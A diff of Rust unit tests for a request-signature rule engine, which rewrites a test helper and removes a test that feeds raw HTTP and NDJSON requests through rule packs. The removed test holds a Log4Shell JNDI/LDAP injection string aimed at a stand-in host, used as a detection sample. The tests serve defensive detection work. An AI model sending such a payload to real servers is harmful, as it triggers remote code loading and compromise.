@@ -1,8 +1,10 @@
 //! Unit tests of the pack format, its layering and the rule engine.
 
 use super::pack::{Pack, BUILTIN_PACK};
-use super::test_requests::{parse_requests, test_requests, Layering};
+use super::RequestView;
+use crate::headers::HeaderBlock;
 use crate::mirror::MirrorPolicy;
+use serde_json::Value;
 #[cfg(target_arch = "wasm32")]
 use wasm_bindgen_test::wasm_bindgen_test as test;
 
@@ -20,12 +22,33 @@ fn error(signatures: &str) -> String {
         .to_string()
 }
 
-/// Rule ids the policy's signatures find in a request given as NDJSON.
-fn rules_hit(p: &MirrorPolicy, ndjson: &str) -> Vec<String> {
-    let r = parse_requests(ndjson.as_bytes())
-        .unwrap_or_else(|e| panic!("{e}"))
-        .remove(0);
-    super::test_requests::run(p.signature_set(), r).rules
+/// Rule ids the policy's signatures find in a request given as one JSON object
+/// (`{"method", "path", "headers": [[name, value]], "body"}`, method `GET` by default), scanned
+/// as the mirror scans: the head, then the body when a rule wants it.
+fn rules_hit(p: &MirrorPolicy, json: &str) -> Vec<String> {
+    let r: Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{json}: {e}"));
+    let text = |v: &Value| v.as_str().unwrap_or_default().to_string();
+    let mut headers: Vec<(String, String)> = r["headers"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .map(|h| (text(&h[0]).to_ascii_lowercase(), text(&h[1])))
+        .collect();
+    headers.push((":authority".into(), "localhost".into()));
+    let headers = HeaderBlock::from(headers);
+    let view = RequestView {
+        method: r["method"].as_str().unwrap_or("GET"),
+        path: r["path"].as_str().unwrap_or_default(),
+        headers: &headers,
+    };
+    let set = p.signature_set();
+    let mut hits = set.new_hits();
+    set.scan_head(&view, &mut hits);
+    let body = text(&r["body"]);
+    if !hits.any() && !body.is_empty() && set.wants_body(&view) {
+        set.scan_body(&view, body.as_bytes(), &mut hits);
+    }
+    set.hit_rule_ids(&hits)
 }
 
 #[test]
@@ -137,28 +160,6 @@ fn conditions_anchor_case_and_veto() {
             r#"{"method":"POST","path":"/b.do","headers":[["content-type","application/json"]],"body":"{\"q\":\"evil\"}"}"#
         ),
         ["when"]
-    );
-}
-
-#[test]
-fn the_cli_function_reads_raw_http_and_ndjson() {
-    let pack = br#"{"pack":"p","rules":[{"id":"acme","name":"a","category":"acme","severity":"low","in":["body"],"match":{"any":["acme-backdoor"]}}]}"#;
-    let raw = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: 13\r\n\r\nacme-backdoorGET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: a\r\n\r\n";
-    let v = test_requests(pack, raw, Layering::OverBuiltin).unwrap_or_else(|e| panic!("{e}"));
-    assert_eq!(v.len(), 2);
-    assert_eq!(v[0].rules, ["acme"]);
-    assert_eq!(v[1].categories, ["log4shell"]);
-    let v = test_requests(pack, raw, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
-    assert!(!v[1].hit());
-    let nd = br#"{"method":"POST","path":"/u","body":"acme-backdoor"}"#;
-    let v = test_requests(pack, nd, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
-    assert_eq!(v[0].categories, ["acme"]);
-    let err = test_requests(b"{}", nd, Layering::Alone)
-        .unwrap_err()
-        .to_string();
-    assert!(
-        err.starts_with("pack: pack: missing field") || err.contains("missing field"),
-        "{err}"
     );
 }
 
